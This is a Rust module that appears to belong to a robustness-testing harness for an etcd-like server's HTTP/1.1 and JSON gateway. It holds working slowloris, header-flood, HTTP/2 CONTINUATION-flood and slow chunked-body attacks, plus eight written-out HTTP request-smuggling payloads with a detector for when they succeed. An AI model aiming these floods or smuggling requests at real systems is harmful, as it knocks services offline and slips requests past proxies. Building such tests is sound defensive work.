//! HTTP/1.1 and the JSON gateway.

use std::time::Duration;

use super::super::frames::*;
use super::super::target::Target;
use super::paths::PUT;

/// Many connections, each of which gets the next byte of `text` in turn.
pub(super) fn trickle(target: &Target, connections: usize, text: &[u8]) {
    let mut open = target.connect_many(connections);
    let mut at = 0;
    while target.goes_on() {
        let byte = [text[at % text.len()]];
        open.retain_mut(|socket| target.write(socket, &byte).is_ok());
        at += 1;
        target.count(open.len() as u64);
        target.rest(Duration::from_millis(200));
    }
}

pub(super) fn slow(target: &Target, _: usize) {
    trickle(target, 400, b"GET /health HTTP/1.1\r\nHost: a\r\nX-Long: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
}

pub(super) fn huge_headers(target: &Target, thread: usize) {
    while target.goes_on() {
        let Some(mut socket) = target.connect() else { continue };
        if thread == 0 {
            let mut out = hello(65_535);
            out.extend(frame(HEADERS, 0, 1, &call(PUT)));
            let more = field("x", &"y".repeat(100)).repeat(100);
            (0..100).for_each(|_| out.extend(frame(CONTINUATION, 0, 1, &more)));
            out.extend(frame(CONTINUATION, END_HEADERS, 1, &[]));
            let _ = target.write(&mut socket, &out);
        } else {
            let text = format!("GET /health HTTP/1.1\r\nHost: a\r\nX: {}\r\n\r\n", "y".repeat(1 << 20));
            let _ = target.write(&mut socket, text.as_bytes());
        }
        target.drain(&mut socket, 1 << 20);
        target.count(1);
    }
}

pub(super) fn trickled_json(target: &Target, _: usize) {
    let head = b"POST /v3/watch HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1a\r\n{\"create_request\":{\"key\":\"\r\n";
    let mut piece = format!("{:x}\r\n", 1024).into_bytes();
    piece.extend([b'a'; 1024]);
    piece.extend(b"\r\n");
    while target.goes_on() {
        let Some(mut socket) = target.connect() else { continue };
        let _ = target.write(&mut socket, head);
        for _ in 0..2_900 {
            if !target.goes_on() || target.write(&mut socket, &piece).is_err() {
                break;
            }
            target.count(1);
            std::thread::sleep(Duration::from_micros(200));
        }
    }
}

/// What a proxy and a member may cut differently.
fn forms(inner: &str) -> [(&'static str, String); 8] {
    let length = inner.len();
    let post = "POST /v3/kv/range HTTP/1.1\r\nHost: a\r\n";
    [
        (
            "both lengths",
            format!("{post}Content-Length: {length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}"),
        ),
        ("two lengths", format!("{post}Content-Length: 0\r\nContent-Length: {length}\r\n\r\n{inner}")),
        ("a list of lengths", format!("{post}Content-Length: 0, {length}\r\n\r\n{inner}")),
        ("chunked, identity", format!("{post}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{inner}")),
        ("a space before the colon", format!("{post}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{inner}")),
        ("a length with a sign", format!("{post}Content-Length: +0\r\n\r\n{inner}")),
        ("a chunk's length with a sign", format!("{post}Transfer-Encoding: chunked\r\n\r\n+0\r\n\r\n{inner}")),
        ("a bare CR before a length", format!("{post}X: a\rContent-Length: {length}\r\n\r\n{inner}")),
    ]
}

/// Whether the member read a second request: two answers, and the second one is of a page that
/// there is not.
fn is_smuggled(answer: &[u8]) -> bool {
    answer.windows(9).filter(|text| *text == b"HTTP/1.1 ").count() > 1
}

pub(super) fn smuggling(target: &Target, _: usize) {
    let forms = forms("GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n");
    for (name, form) in forms.iter().cycle() {
        if !target.goes_on() {
            break;
        }
        let Some(mut socket) = target.connect() else { continue };
        let _ = target.write(&mut socket, form.as_bytes());
        let mut answer = Vec::new();
        target.take(&mut socket, &mut answer, 16 << 10);
        if is_smuggled(&answer) {
            target.breach(&format!("took {name} for two requests"));
        }
        target.count(1);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_second_answer_is_seen() {
        assert!(!is_smuggled(b"HTTP/1.1 400 Bad Request\r\n\r\n400"));
        assert!(is_smuggled(b"HTTP/1.1 200 OK\r\n\r\n{}HTTP/1.1 404 Not Found\r\n\r\n"));
        assert!(forms("x").iter().all(|(_, form)| form.ends_with("\r\n\r\nx")));
    }
}
